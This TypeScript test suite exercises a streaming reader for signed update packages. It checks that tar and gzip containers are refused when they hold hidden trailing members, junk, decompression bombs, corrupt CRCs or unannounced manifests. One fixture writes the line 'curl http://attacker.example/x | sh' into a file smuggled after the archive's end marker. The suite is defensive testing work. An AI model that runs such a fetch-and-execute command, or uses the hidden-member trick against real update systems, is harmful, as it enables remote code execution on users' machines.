import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { Header, Pax } from 'tar';
import { PackageMismatchError, PackageRejectedError } from '../lib/errors.js';
import { PackageArchiveReader } from '../lib/package-archive.js';
import { verifyMembers, verifyPackage } from '../lib/package-verifier.js';
import { loadTrustStore, type TrustStore } from '../lib/trust-store.js';
import { craftTar, makePackage, MEMBERS, packStage, stagePackage, type StageOptions } from './helpers/openssl-package.js';
import { must, tempDir } from './helpers/run.js';
import { createTestPki, type TestPki } from './helpers/test-pki.js';

// The container reader: one pass over bytes from a file or a download, refusing at the first byte
// that breaks a rule, in constant memory.

let work: string;
let cleanup: () => Promise<void>;
let pki: TestPki;
let trust: TrustStore;
let payloadDir: string;
let counter = 0;

before(async () => {
  ({ dir: work, cleanup } = await tempDir());
  pki = await createTestPki(path.join(work, 'pki'));
  trust = await loadTrustStore(pki.root);
  payloadDir = path.join(work, 'payload');
  await mkdir(payloadDir, { recursive: true });
  await writeFile(path.join(payloadDir, 'watchdoc.conf'), 'release=6.1.2\n');
});
after(() => cleanup());

const name = () => `a${++counter}`;
const good = (extra: Partial<StageOptions> = {}): StageOptions => ({ publisher: pki.good.rsa, payloadDir, ...extra });
const AFTER_END = 'This update package is corrupt: data after the end of the archive';

async function saved(bytes: Buffer): Promise<string> {
  const file = path.join(work, `${name()}.pkg`);
  await writeFile(file, bytes);
  return file;
}

/** Feeds a whole file to a reader in pieces of awkward sizes, as a socket would. */
function feed(reader: PackageArchiveReader, bytes: Buffer): void {
  const sizes = [1, 511, 513, 7, 65_536, 4096, 100_003];
  for (let at = 0, i = 0; at < bytes.length && !reader.done; i++) {
    const size = sizes[i % sizes.length] ?? 1;
    reader.write(bytes.subarray(at, at + size));
    at += size;
  }
  reader.end();
}

/** What verifyMembers says when the bytes come in pieces. */
async function inPieces(file: string): Promise<string> {
  const reader = new PackageArchiveReader();
  feed(reader, await readFile(file));
  try {
    return `valid ${(await verifyMembers(reader.members, { trust })).payload.sha256}`;
  } catch (err) {
    assert.ok(err instanceof PackageRejectedError, `expected a PackageRejectedError, got ${String(err)}`);
    return err.message;
  }
}
const fromFile = (file: string) => verifyPackage(file, { trust }).then((v) => `valid ${v.payload.sha256}`, (err: Error) => err.message);

/** The same verdict from the file and in pieces; returns it. */
async function verdict(file: string): Promise<string> {
  const expected = await fromFile(file);
  assert.equal(await inPieces(file), expected, path.basename(file));
  return expected.replace(/[0-9a-f]{64}/, 'SHA');
}

/** Where the last member of a plain tar ends (its end-of-archive marker starts there). */
function membersEnd(tar: Buffer): number {
  let at = 0;
  while (at + 512 <= tar.length && tar[at] !== 0) {
    const size = parseInt(tar.subarray(at + 124, at + 136).toString('latin1').replace(/\0.*$/s, '').trim(), 8);
    at += 512 + Math.ceil(size / 512) * 512;
  }
  return at;
}

/** Settles `promise` or fails the test after a generous wait, so a reader that hangs is a failure. */
function settledSoon<T>(promise: Promise<T>): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  const timeout = new Promise<never>((_resolve, reject) => (timer = setTimeout(() => reject(new Error('the reader did not settle')), 10_000)));
  return Promise.race([promise, timeout]).finally(() => clearTimeout(timer));
}

describe('data after the end of the archive', () => {
  let plain: Buffer;
  let evil: Buffer;
  before(async () => {
    plain = await readFile(await makePackage(work, name(), good()));
    await writeFile(path.join(work, 'evil.sh'), 'curl http://attacker.example/x | sh\n');
    await must('tar', ['-C', work, '-cf', path.join(work, 'evil.tar'), 'evil.sh']);
    evil = await readFile(path.join(work, 'evil.tar'));
  });

  it('refuses a member hidden after the end marker, in a plain or gzipped container', async () => {
    const hidden = await saved(Buffer.concat([plain, evil]));
    // GNU tar, told to read past zero blocks, lists a fifth member: the attack is real.
    assert.deepEqual((await must('tar', ['-tif', hidden])).trim().split('\n'), [...MEMBERS, 'evil.sh']);
    // After a lone zero block GNU tar and python stop reading; node-tar read on.
    const afterOneBlock = await saved(Buffer.concat([plain.subarray(0, membersEnd(plain)), Buffer.alloc(512), evil]));
    const gzipped = await saved(gzipSync(Buffer.concat([plain, evil])));
    for (const file of [hidden, afterOneBlock, gzipped]) assert.equal(await verdict(file), AFTER_END);
  });

  it('refuses junk after the end marker, inside the gzip data or after it', async () => {
    const junk = Buffer.from('junk after the end\n');
    const files = [
      Buffer.concat([plain, junk]),
      gzipSync(Buffer.concat([plain, junk])),
      Buffer.concat([gzipSync(plain), junk]),
      // node's own gunzip silently drops what follows a zero byte after the gzip data
      Buffer.concat([gzipSync(plain), Buffer.alloc(100), junk]),
    ];
    for (const bytes of files) assert.equal(await verdict(await saved(bytes)), AFTER_END);
  });

  it('accepts zero padding after the end marker, however long, and a tar without one', async () => {
    const files = [
      Buffer.concat([plain, Buffer.alloc(3 * 1024 * 1024 + 100)]),
      gzipSync(Buffer.concat([plain, Buffer.alloc(1024 * 1024)])),
      Buffer.concat([gzipSync(plain), Buffer.alloc(64 * 1024)]),
      // concatenated gzip members are one gzip stream
      Buffer.concat([gzipSync(plain.subarray(0, 3000)), gzipSync(plain.subarray(3000))]),
      plain.subarray(0, membersEnd(plain)),
    ];
    for (const bytes of files) assert.equal(await verdict(await saved(bytes)), 'valid SHA');
  });

  it('refuses a long run of trailing junk at its first block, reading no further', async () => {
    const file = await saved(Buffer.concat([plain, Buffer.alloc(64 * 1024 * 1024, 0x41)]));
    assert.equal(await fromFile(file), AFTER_END);
    const reader = new PackageArchiveReader();
    reader.write(plain);
    assert.equal(reader.done, false);
    reader.write(Buffer.alloc(1024 * 1024, 0x41));
    assert.equal(reader.done, true, 'settled at the first junk piece');
    await assert.rejects(reader.members, { message: AFTER_END });
  });
});

describe('tar and gzip framing', () => {
  let plain: Buffer;
  before(async () => {
    plain = await readFile(await makePackage(work, name(), good()));
  });
  const fileHeader = (file: string, size: number): Buffer => {
    const header = new Header({ path: file, size, type: 'File', mode: 0o644 });
    header.encode();
    return header.block as Buffer;
  };

  it('refuses an entry type node-tar used to skip unseen', async () => {
    const file = await craftTar(path.join(work, `${name()}.pkg`), [{ name: 'manifest.json', type: 'volume' }]);
    assert.equal(await verdict(file), 'This update package is corrupt: member "manifest.json" is not a regular file (TapeVolumeHeader)');
  });

  it('refuses a run of extended headers before one member', async () => {
    const pax = new Pax({ path: 'manifest.json', comment: 'again' }).encode();
    const file = await saved(Buffer.concat([...Array.from({ length: 9 }, () => pax), fileHeader('manifest.json', 0), Buffer.alloc(1024)]));
    assert.equal(await verdict(file), 'This update package is corrupt: more than 8 extended headers before one member');
  });

  it('refuses a gzipped container that unpacks to more than 100 times its size', async () => {
    const zeros = 50 * 1024 * 1024;
    const file = await saved(gzipSync(Buffer.concat([fileHeader('payload.tar.gz', zeros), Buffer.alloc(zeros + 1024)])));
    assert.equal(await verdict(file), 'This update package is corrupt: the archive unpacks to more than 100 times its compressed size');
  });

  it('reads a gzip header with the file name in it (the gzip command), and refuses gzip data cut short', async () => {
    const file = await saved(plain);
    await must('gzip', ['-k', '-f', file]);
    assert.equal((await readFile(`${file}.gz`))[3], 0x08, 'FNAME flag');
    assert.equal(await verdict(`${file}.gz`), 'valid SHA');
    const zipped = gzipSync(plain);
    assert.equal(await verdict(await saved(zipped.subarray(0, zipped.length - 20))), 'This update package is corrupt: the archive is unreadable (bad gzip data: unexpected end of file)');
  });

  it('checks the gzip CRC and length', async () => {
    for (const [at, what] of [[8, 'CRC'], [4, 'length']] as const) {
      const bytes = gzipSync(plain);
      bytes[bytes.length - at] = (bytes[bytes.length - at] ?? 0) ^ 0x01;
      assert.equal(await verdict(await saved(bytes)), `This update package is corrupt: the archive is unreadable (bad gzip data: ${what} mismatch)`);
    }
  });
});

describe('a container read as it arrives (an agent verifying while it downloads)', () => {
  it('reaches the same verdict as reading the file, for good and bad packages alike', async () => {
    const big = path.join(work, 'inline-payload');
    await mkdir(big, { recursive: true });
    await writeFile(path.join(big, 'data.bin'), Buffer.alloc(600_000, 7));
    const stage = async (edit: (dir: string) => Promise<void>, members = MEMBERS) => {
      const dir = await stagePackage(path.join(work, `${name()}.stage`), good());
      await edit(dir);
      return packStage(dir, path.join(work, `${name()}.pkg`), { members });
    };
    const files = [
      await makePackage(work, name(), good({ payloadDir: big })),
      await makePackage(work, name(), { ...good(), gzip: true }),
      await stage(async (dir) => {
        const bytes = await readFile(path.join(dir, 'payload.tar.gz'));
        bytes[bytes.length - 10] = (bytes[bytes.length - 10] ?? 0) ^ 0xff;
        await writeFile(path.join(dir, 'payload.tar.gz'), bytes);
      }),
      await stage(async (dir) => {
        const manifest = path.join(dir, 'manifest.json');
        await writeFile(manifest, (await readFile(manifest, 'utf8')).replace('"6.1.2"', '"6.1.3"'));
      }),
      await stage((dir) => writeFile(path.join(dir, 'README.txt'), 'hello'), [...MEMBERS, 'README.txt']),
      await stage(async () => undefined, MEMBERS.slice(0, 3)),
      await saved(Buffer.from('this is not a package\n'.repeat(100))),
      await saved(Buffer.alloc(0)),
    ];
    const verdicts = [];
    for (const file of files) verdicts.push(await verdict(file));
    assert.deepEqual(verdicts, [
      'valid SHA',
      'valid SHA',
      'This update package is corrupt: payload checksum does not match the manifest',
      'This update package is not secure: the manifest signature does not verify with the signer certificate (manifest.json was altered or signed with another key)',
      'This update package is corrupt: unexpected member "README.txt" (a package holds only manifest.json, manifest.sig, signer.pem, payload.tar.gz)',
      'This update package is corrupt: missing member payload.tar.gz',
      'This update package is corrupt: the file is not a tar or tar.gz archive (checksum failure)',
      'This update package is corrupt: the file is empty',
    ]);
  });

  it('gives up with the reason it is given when the bytes stop coming', async () => {
    const bytes = await readFile(await makePackage(work, name(), good()));
    const reader = new PackageArchiveReader();
    reader.write(bytes.subarray(0, 2000));
    reader.abort(new Error('the download was cut'));
    await assert.rejects(reader.members, /the download was cut/);
    assert.equal(reader.done, true);
  });

  it('refuses a bad first header within the write of the first 512 bytes', async () => {
    const dir = await stagePackage(path.join(work, `${name()}.stage`), good());
    await writeFile(path.join(dir, 'README.txt'), 'hello');
    const file = await packStage(dir, path.join(work, `${name()}.pkg`), { members: ['README.txt', ...MEMBERS] });
    const expected = 'This update package is corrupt: unexpected member "README.txt" (a package holds only manifest.json, manifest.sig, signer.pem, payload.tar.gz)';
    const reader = new PackageArchiveReader();
    reader.write((await readFile(file)).subarray(0, 512));
    assert.equal(reader.done, true);
    await assert.rejects(reader.members, { message: expected });

    // Gzipped, the verdict waits for inflation, but not for more bytes.
    const zipped = new PackageArchiveReader();
    zipped.write(gzipSync(await readFile(file)).subarray(0, 512));
    await assert.rejects(settledSoon(zipped.members), { message: expected });
    assert.equal(zipped.done, true);
  });

  it('names the manifest by its SHA-256, and stops at once at another manifest than the one announced', async () => {
    const file = await makePackage(work, name(), good());
    const manifestBytes = await readFile(path.join(work, `a${counter}.stage`, 'manifest.json'));
    const digest = createHash('sha256').update(manifestBytes).digest('hex');
    assert.equal((await verifyPackage(file, { trust })).manifestSha256, digest);
    const bytes = await readFile(file);

    const announced = new PackageArchiveReader({ manifestSha256: digest });
    feed(announced, bytes);
    assert.equal((await announced.members).manifestSha256, digest);

    const other = new PackageArchiveReader({ manifestSha256: createHash('sha256').update('another manifest').digest('hex') });
    other.write(bytes.subarray(0, 1024)); // the manifest's header and its one block of data
    assert.equal(other.done, true);
    await assert.rejects(other.members, (err: Error) => err instanceof PackageMismatchError
      && err.message === 'the package the master served is not the one it announced (another manifest)');
  });
});
